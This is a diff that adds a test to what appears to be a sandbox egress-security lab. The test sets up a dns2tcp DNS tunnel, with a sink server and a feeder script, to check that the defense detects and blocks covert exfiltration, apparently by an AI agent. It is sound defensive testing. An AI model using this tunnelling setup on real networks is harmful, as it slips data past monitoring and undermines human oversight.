@@ -12,6 +12,8 @@ from __future__ import annotations
 
 import contextlib
 import json
+import pathlib
+import sys
 import time
 import uuid
 
@@ -113,6 +115,61 @@ def _run_iodine(lab: SecurityLab, name: str, argv: list[str]) -> tuple[Attacker,
         moved = lab.sandbox(["ping", "-c", "3", "-W", "2", "10.99.0.1"], timeout=20).returncode == 0
     client.stop()
     return client, moved
+
+
+SINK = r"""
+import socket, sys
+server = socket.create_server((sys.argv[1], int(sys.argv[2])))
+print("sink listening", flush=True)
+while True:
+    conn, _ = server.accept()
+    with conn:
+        while data := conn.recv(65536):
+            print("got", data.decode(errors="replace"), flush=True)
+"""
+
+FEED = r"""
+import socket, sys, time
+for _ in range(int(sys.argv[2])):
+    try:
+        with socket.create_connection(("127.0.0.1", 2222), timeout=3) as conn:
+            conn.sendall(sys.argv[1].encode() * 20)
+            time.sleep(1)
+    except OSError as error:
+        print("feed failed", error, flush=True)
+        time.sleep(1)
+"""
+
+
+def test_dns2tcp_under_an_allowed_wildcard(dns_lab: SecurityLab, tmp_path: pathlib.Path) -> None:
+    """dns2tcp (TXT, base64 labels) relaying a TCP stream to the attacker's sink through a delegated zone."""
+    base, marker = "i5.lab", "d" + uuid.uuid4().hex[:12]
+    (dns_lab.lab.state_dir / "delegations.json").write_text(json.dumps({base: [INTERNET_V4, 5302]}))
+    config = tmp_path / "dns2tcpd.conf"
+    config.write_text(f"listen = {INTERNET_V4}\nport = 5302\ndomain = {base}\nresources = sink:{INTERNET_V4}:7000\n")
+    sink = dns_lab.attacker("dns2tcp-sink", [sys.executable, "-c", SINK, INTERNET_V4, "7000"])
+    sink.wait_for("sink listening")
+    daemon = dns_lab.attacker("dns2tcpd", ["dns2tcpd", "-F", "-d", "1", "-f", str(config)])
+    since = time.time()
+    with dns_lab.capture("dns2tcp-first") as capture:
+        client = dns_lab.attacker(
+            "dns2tcpc", ["dns2tcpc", "-z", base, "-r", "sink", "-l", "2222", GATEWAY_SBX_V4], where="sandbox"
+        )
+        dns_lab.sandbox_python(FEED, marker, "5", timeout=60)
+    before = _queries_to_upstream(_result(capture).payload, base)
+    with dns_lab.capture("dns2tcp-again") as capture:
+        dns_lab.sandbox_python(FEED, marker, "5", timeout=60)  # the agent keeps feeding its tunnel
+    held = _result(capture)
+    after = _queries_to_upstream(held.payload, base)
+    leaked = sum(len(data) for flow, data in held.payload.items() if flow[1] == NS) if after else 0
+    goal = marker in sink.log()
+    reason = dns_lab.reason_of(since, lambda r: r.host.endswith(base) and r.reason in ("dns-tunnel", "dns-malformed"))
+    report("dns/dns2tcp-TXT", "dns-tunnel", leaked, goal, reason, f"{before} queries before the finding, {after} after")
+    client.stop()
+    daemon.stop()
+    assert after == 0, held.table()
+    assert not goal, sink.log()[-1000:]
+    assert reason in ("dns-tunnel", "dns-malformed")
 
 
 SLOW = r"""
